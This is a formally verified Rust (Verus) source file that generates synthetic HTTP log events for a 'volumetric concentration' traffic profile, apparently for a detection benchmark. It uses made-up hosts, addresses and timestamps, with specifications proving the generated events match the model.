/// A request of the volume profile. The first twelve thousand go to one path, from a few hundred
/// sources; the others are spread. None stands for a real incident or actor.
pub open spec fn volume_event(config: GeneratorConfig, k: int) -> EventModel {
    let start = config.start_timestamp_ms as int;
    let host = "volume"@ + decimal((k % config.hosts as int + 1) as nat) + ".synthetic.test"@;
    let octets = focus_octets(focus_source(k));
    let index = (k - 12_000 + config.seed as int % 23_650) % 23_650;
    let focused = k < 12_000;
    let plain = ordinary(
        start,
        (k + 1) as nat,
        TruthClass::Unknown,
        seq![],
        if focused {
            VOLUMETRIC_CONCENTRATION_PATH@
        } else {
            "/synthetic/background/"@ + padded_decimal(
                ((k - 12_000 + config.seed) % 32) as nat,
                2,
            )
        },
        None,
    );
    EventModel {
        host,
        headers: host_and_agent(host, "Shenron-Synthetic-Volume/1.0"@),
        ja3: None,
        source_ip: if focused {
            benchmark_address(octets.0, octets.1)
        } else {
            benchmark_address(100 + index / 254, index % 254 + 1)
        },
        timestamp: start + volume_minute(k) * 60_000 + (k + config.seed) % 60 * 1000,
        status: Some(
            if focused && k % 100 != 0 {
                404u16
            } else {
                200u16
            },
        ),
        ..plain
    }
}

fn focus_address(k: u64) -> (r: String)
    requires
        k < 12_000,
    ensures
        r@ == benchmark_address(
            focus_octets(focus_source(k as int)).0,
            focus_octets(focus_source(k as int)).1,
        ),
{
    let i: u64 = if k < 4000 {
        k / 400
    } else if k < 4360 {
        10 + (k - 4000) / 36
    } else if k < 6600 {
        20 + (k - 4360) / 35
    } else if k < 8280 {
        84 + (k - 6600) / 21
    } else {
        164 + (k - 8280) / 20
    };
    let (third, last): (u64, u64) = if i < 7 {
        (i, 1)
    } else if i < 10 {
        (i - 7, 2)
    } else if i < 40 {
        ((i - 10) / 10, (i - 10) % 10 + 3)
    } else if i < 84 {
        (3 + (i - 40) / 11, (i - 40) % 11 + 2)
    } else if i < 240 {
        (7 + (i - 84) / 12, (i - 84) % 12 + 1)
    } else {
        (20 + (i - 240) / 11, (i - 240) % 11 + 1)
    };
    benchmark_ip(third, last)
}

/// Whether the requests of the volume profile can be written.
pub open spec fn volume_fits(config: GeneratorConfig) -> bool {
    &&& config.hosts > 0
    &&& config.seed <= u64::MAX - (VOLUMETRIC_CONCENTRATION_EVENTS - 1)
    &&& config.start_timestamp_ms + VOLUMETRIC_CONCENTRATION_EVENTS * 1000 <= i64::MAX
}

fn volume_request(config: &GeneratorConfig, k: u64) -> (r: SyntheticEvent)
    requires
        volume_fits(*config),
        k < VOLUMETRIC_CONCENTRATION_EVENTS,
    ensures
        r@ == volume_event(*config, k as int),
{
    let focused = k < 12_000;
    let path = if focused {
        VOLUMETRIC_CONCENTRATION_PATH.to_owned()
    } else {
        let mut path = "/synthetic/background/".to_owned();
        path.append(padded_text((k - 12_000 + config.seed) % 32, 2).as_str());
        path
    };
    let mut r = event(
        config.start_timestamp_ms,
        k + 1,
        TruthClass::Unknown,
        None,
        path.as_str(),
        None,
    );
    r.source_ip =
    if focused {
        focus_address(k)
    } else {
        let index: u64 = (k - 12_000 + config.seed % 23_650) % 23_650;
        benchmark_ip(100 + index / 254, index % 254 + 1)
    };
    r.response_status =
    Some(
        if focused && k % 100 != 0 {
            404
        } else {
            200
        },
    );
    let minute: u64 = if k < 5000 {
        30
    } else {
        let n: u64 = (k - 5000) % 59;
        if n >= 30 {
            n + 1
        } else {
            n
        }
    };
    let second: u64 = (k + config.seed) % 60;
    r.timestamp = config.start_timestamp_ms + (minute * 60_000 + second * 1000) as i64;
    let mut host = "volume".to_owned();
    push_decimal(&mut host, k % (config.hosts as u64) + 1);
    host.append(".synthetic.test");
    r.headers = two_headers(host.as_str(), "Shenron-Synthetic-Volume/1.0");
    r.host = host;
    r.ja3 = None;
    r
}

pub fn volumetric_concentration_events(config: &GeneratorConfig) -> (r: Vec<SyntheticEvent>)
    requires
        volume_fits(*config),
    ensures
        r@.len() == VOLUMETRIC_CONCENTRATION_EVENTS,
        forall|k: int|
            0 <= k < VOLUMETRIC_CONCENTRATION_EVENTS ==> (#[trigger] r@[k])@ == volume_event(
                *config,
                k,
            ),
{
    let mut events: Vec<SyntheticEvent> = Vec::new();
    let mut k: usize = 0;
    while k < VOLUMETRIC_CONCENTRATION_EVENTS
        invariant
            volume_fits(*config),
            k <= VOLUMETRIC_CONCENTRATION_EVENTS,
            events@.len() == k,
            forall|j: int| 0 <= j < k ==> (#[trigger] events@[j])@ == volume_event(*config, j),
        decreases VOLUMETRIC_CONCENTRATION_EVENTS - k,
    {
        events.push(volume_request(config, k as u64));
        k = k + 1;
    }
    events
}

} // verus!
